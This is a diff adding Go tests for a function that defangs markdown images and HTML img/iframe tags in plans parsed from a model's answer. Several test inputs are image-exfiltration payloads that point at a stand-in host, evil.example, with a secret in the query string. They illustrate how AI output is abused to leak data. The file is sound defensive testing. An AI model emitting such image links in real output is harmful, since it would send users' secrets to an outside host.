@@ -1,0 +1,55 @@
+package planview
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestDefang(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"1. See ![x](https://evil.example/p.png?k=SECRET) here", "1. See [x](https://evil.example/p.png?k=SECRET) here"},
+		{`2. <img src="https://evil.example/t.gif"> and <IFRAME src=x>`, `2. &lt;img src="https://evil.example/t.gif"> and &lt;IFRAME src=x>`},
+		{"3. In `index.html`, replace `<img src=a.png>` with `![b](b.png)`", "3. In `index.html`, replace `<img src=a.png>` with `![b](b.png)`"},
+		{"```html\n<img src=a.png>\n![x](y)\n```\nthen ![z](w)", "```html\n<img src=a.png>\n![x](y)\n```\nthen [z](w)"},
+		{"4. keep a < b and <br> and <details>", "4. keep a < b and <br> and <details>"},
+		{"5. an unclosed ` then ![x](y)", "5. an unclosed ` then [x](y)"},
+	}
+	for _, c := range cases {
+		if got := Defang(c.in); got != c.want {
+			t.Errorf("Defang(%q)\n got %q\nwant %q", c.in, got, c.want)
+		}
+	}
+}
+
+// The plan taken from a model's answer is defanged; Render keeps it so.
+func TestParseDefangsThePlan(t *testing.T) {
+	p, err := Parse("## Plan\n1. Add ![logo](https://evil.example/x.png) to README.md\n## End Plan\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(p.Text, "![") {
+		t.Errorf("plan keeps an image: %q", p.Text)
+	}
+}
+
+// FuzzDefang: whatever the text, Defang is idempotent and changes nothing
+// but images and fetching tags.
+func FuzzDefang(f *testing.F) {
+	for _, s := range []string{"![a](b)", "<img src=x>", "`<img>` ![a](b)", "```\n<img>\n```\n<img>", "~~~\n![x](y)\n~~~", "`` ` ``<script>"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		d := Defang(s)
+		if Defang(d) != d {
+			t.Fatalf("not idempotent: %q -> %q -> %q", s, d, Defang(d))
+		}
+		// It only drops a "!" or writes a "<" as "&lt;": nothing else changes.
+		norm := func(x string) string { return strings.ReplaceAll(strings.ReplaceAll(x, "&lt;", "<"), "!", "") }
+		if norm(d) != norm(s) {
+			t.Fatalf("changed more than images and tags: %q -> %q", s, d)
+		}
+		if !strings.Contains(s, "![") && !strings.Contains(s, "<") && d != s {
+			t.Fatalf("changed text with nothing to defang: %q -> %q", s, d)
+		}
+	})
+}
